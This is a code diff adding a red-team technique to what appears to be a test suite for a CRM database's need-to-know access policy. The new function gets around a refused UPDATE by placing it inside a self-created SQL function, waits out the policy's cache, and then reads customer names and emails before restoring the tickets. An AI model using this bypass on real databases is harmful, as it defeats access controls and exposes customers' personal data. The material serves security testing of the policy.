@@ -1446,6 +1446,51 @@ def t_analyst_fastpath(ctx: Ctx) -> None:
             "SELECT \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'", "t", "f", ""])  # fmt: skip
 
 
+@technique("rows")
+def t_self_assign_via_function(ctx: Ctx) -> None:
+    """As self_assign, but the UPDATE of assigned_agent_id (refused at top level) is the body
+    of a SQL function of one's own, called from a SELECT. As in self_assign, customers of
+    reassigned tickets count as inside need-to-know (the policy's own definition); how many
+    were another agent's is noted. The tickets are given back after."""
+    ds = ctx.env.ds
+    aid = ds.agent_id(ATTACKER)
+    others = [
+        t
+        for t in ds.tickets
+        if t.agent_id not in (None, aid) and t.status != "closed" and not t.restricted
+    ][:400]
+    before = set(ctx.out.ntk)
+    ctx.out.ntk = before | {t.customer_id for t in others}
+    c = ctx.connect()
+    ids = ",".join(str(t.ticket_id) for t in others)
+    try:
+        ctx.q(c, "CREATE FUNCTION scratch.rt2_take(a int) RETURNS bigint LANGUAGE sql AS "
+                 f"'UPDATE crm.\"Tickets\" SET assigned_agent_id = a WHERE ticket_id IN ({ids}) "
+                 "RETURNING ticket_id'")  # fmt: skip
+        time.sleep(2)
+        r = ctx.q(c, f"SELECT scratch.rt2_take({aid})")
+        ctx.out.notes.append(f"the reassigning function returned {r!r:.60}")
+        time.sleep(11)  # the policy caches need-to-know lookups for 10 s
+        streak = [0]
+        custs = sorted({t.customer_id for t in others})
+        for i in range(0, len(custs), 15):
+            r = ctx.q(c, 'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id IN '
+                         f"({','.join(map(str, custs[i : i + 15]))})")  # fmt: skip
+            if _stop_after(ctx, streak, r is not None):
+                break
+    finally:
+        ctx.out.notes.append(
+            f"{len(ctx.out.customers - before)} customers reached the agent through tickets "
+            "reassigned to themselves by a function (the top-level UPDATE is refused)"
+        )
+        with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
+            for t in others:
+                direct.execute(
+                    'UPDATE crm."Tickets" SET assigned_agent_id = %s WHERE ticket_id = %s',
+                    (t.agent_id, t.ticket_id),
+                )
+
+
 # -- the analyst: masked contact data ------------------------------------------------------
 
 
